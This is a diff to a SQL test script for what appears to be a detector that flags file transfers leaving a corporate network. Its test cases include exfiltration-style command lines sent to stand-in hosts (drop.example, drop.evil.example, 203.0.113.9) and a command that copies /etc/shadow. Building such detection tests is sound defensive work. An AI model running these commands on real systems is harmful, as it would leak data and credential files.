@@ -50,6 +50,9 @@ CALL pg_temp.tries('2026-11-20 05:00Z', 'web-2.corp.example', 'scp a u@EVIL.inte
 -- outside, for each host
 CALL pg_temp.tries('2026-11-20 06:00Z', 'web-1.corp.example', 'scp a u@drop.example:', 'scp a u@DROP.example:', 'scp a u@203.0.113.9:');
 CALL pg_temp.tries('2026-11-20 06:00Z', 'web-2.corp.example', 'scp a u@drop.example:');
+-- a host that calls itself otherwise makes that domain no inside for others
+SELECT pg_temp.launch('2026-11-20 06:10Z', 'web-9.evil.example', 'rsync -a /srv/ nas-1.corp.example:/in');
+CALL pg_temp.tries('2026-11-20 06:40Z', 'web-1.corp.example', 'scp a u@drop.evil.example:');
 -- servers, both ways of sending
 CALL pg_temp.tries('2026-11-20 07:00Z', 'db06.corp.example', 'scp -f /etc/shadow', 'scp -t /srv', 'rsync --daemon', 'vsftpd /etc/vsftpd.conf', 'rsync --server --sender -logDtpr . /srv/');
 -- arguments in their order, also where the line says less: the remote host is the last
